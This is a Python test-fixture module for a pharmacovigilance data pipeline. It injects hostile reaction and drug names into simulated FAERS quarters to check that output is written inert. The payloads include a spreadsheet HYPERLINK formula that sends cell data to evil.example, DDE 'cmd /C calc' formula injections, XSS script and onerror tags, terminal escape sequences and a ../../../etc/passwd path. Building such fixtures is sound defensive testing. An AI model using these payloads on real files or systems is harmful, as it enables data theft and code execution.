"""Hostile free text planted into a simulated quarter (``simulate(..., hostile=True)``).

FAERS reaction and drug names are free text a stranger typed; pvmon must carry them through
every stage and write them inert (pv/inert.py). With ``hostile=True`` each quarter gets, on a
few baclofen-suspect reports, one extra REAC row per name of ``HOSTILE_PTS`` (spreadsheet
formulas, HTML/script, terminal escape sequences, rich markup, a path, a 300-character
reaction) and one extra suspect (SS) DRUG row per name of ``HOSTILE_DRUGNAMES`` (a
300-character free-text drug name, escape sequences). Every PT is then reported with
baclofen only (c = 0), so it is flagged and reaches the case lists, pages and reports.

The reports chosen cannot change the deduplication truth: they are neither quarantined nor
part of a planted duplicate pair, and their duplicate key is already void (a DEMO field the
duplicate rule never matches on is empty), so extra rows cannot make them match anything.
Rows are appended at the end of REAC and DRUG (the ``two_records`` positions stay valid).
ground_truth.csv gets one ``hostile_name`` row per planted row (table, caseid, primaryid,
value = the name as written; in the CSV the name is written inert like any other cell).
Default off: the normal simulation is byte-identical with or without this module.
"""

from __future__ import annotations

import polars as pl

from pv.faers.simulate.quarter import QuarterData

REPORTS = 5  # baclofen reports per quarter carrying the names (a = 5 per quarter, enough to flag)

LONG_REACTION = ("PATIENT STATED THAT AFTER THE DOSE WAS INCREASED SHE FELT DIZZY AND CONFUSED AND THEN FELL IN "
                 "THE KITCHEN WHILE PREPARING DINNER AND HER HUSBAND FOUND HER ON THE FLOOR AND CALLED AN "
                 "AMBULANCE AND SHE WAS TAKEN TO THE EMERGENCY DEPARTMENT WHERE SHE STAYED OVERNIGHT FOR "
                 "OBSERVATION AND WAS DISCHARGED THE NEXT DAY")
LONG_DRUGNAME = ("UNKNOWN HERBAL PRODUCT BOUGHT ONLINE FROM A WEBSITE THE PATIENT COULD NOT REMEMBER WHICH "
                 "CONTAINED SEVERAL PLANT EXTRACTS AND VITAMINS AND WAS TAKEN EVERY MORNING WITH BREAKFAST "
                 "TOGETHER WITH A GLASS OF ORANGE JUICE FOR ABOUT THREE MONTHS BEFORE THE EVENT STARTED AS "
                 "REPORTED BY THE PATIENTS DAUGHTER")

HOSTILE_PTS = (
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('pt-script')</script>",
    "<img src=x onerror=alert('pt-img')>",
    "\x1b]0;PWNED\x07\x1b[2J\x1b[31mRed reaction\x1b[0m",
    "\x9b31mC1 reaction\x07",
    "[bold red]Markup reaction[/bold red] :skull:",
    "../../../etc/passwd",
    LONG_REACTION,
)
HOSTILE_DRUGNAMES = (
    LONG_DRUGNAME,
    "\x1b[31mRED DRUG\x1b[0m <script>alert('drug')</script> =cmd|' /C calc'!A0",
)


def plant(qd: QuarterData) -> pl.DataFrame:
    """Append the hostile REAC and DRUG rows to ``qd``; return their ground-truth rows."""
    demo, drug, reac = qd.tables["DEMO"], qd.tables["DRUG"], qd.tables["REAC"]
    paired = pl.concat([qd.dups["caseid"], qd.dups["original"]])
    void = qd.demo_keys.filter(~pl.col("quarantined") & pl.col("dup_key").is_null()).select("primaryid_i")
    focal = (drug.filter(pl.col("drugname").str.to_uppercase().str.contains("BACLOF")
                         & pl.col("role_cod").is_in(["PS", "SS"])).select("rep").unique())
    with_reac = reac.select("rep").unique()
    chosen = (demo.join(void, on="primaryid_i").join(focal, on="rep").join(with_reac, on="rep")
              .filter(~pl.col("caseid_i").is_in(paired.implode()))
              .sort("primaryid_i").head(REPORTS).select("rep", "caseid", "primaryid"))
    if chosen.height == 0:
        return pl.DataFrame()
    reac_rows = (reac.join(chosen.select("rep"), on="rep").unique("rep", keep="first", maintain_order=True)
                 .join(pl.DataFrame({"hostile": list(HOSTILE_PTS)}), how="cross")
                 .with_columns(pt=pl.col("hostile")).drop("hostile"))
    last = drug.join(chosen.select("rep"), on="rep").with_columns(seq=pl.col("drug_seq").cast(pl.Int64)).sort("seq")
    drug_rows = (last.unique("rep", keep="last", maintain_order=True)
                 .join(pl.DataFrame({"hostile": list(HOSTILE_DRUGNAMES), "step": range(1, len(HOSTILE_DRUGNAMES) + 1)}),
                       how="cross")
                 .with_columns(drugname=pl.col("hostile"), role_cod=pl.lit("SS"),
                               drug_seq=(pl.col("seq") + pl.col("step")).cast(pl.String)))
    if "prod_ai" in drug_rows.columns:  # FDA's ingredient mapping is empty for free text
        drug_rows = drug_rows.with_columns(prod_ai=pl.lit(""))
    qd.tables["REAC"] = pl.concat([reac, reac_rows.select(reac.columns)])
    qd.tables["DRUG"] = pl.concat([drug, drug_rows.select(drug.columns)])
    quarter = f"{qd.year}Q{qd.q}"
    return pl.concat([
        reac_rows.select("caseid", "primaryid", value=pl.col("pt"), table=pl.lit("REAC")),
        drug_rows.select("caseid", "primaryid", value=pl.col("drugname"), table=pl.lit("DRUG")),
    ]).with_columns(kind=pl.lit("hostile_name"), quarter=pl.lit(quarter))
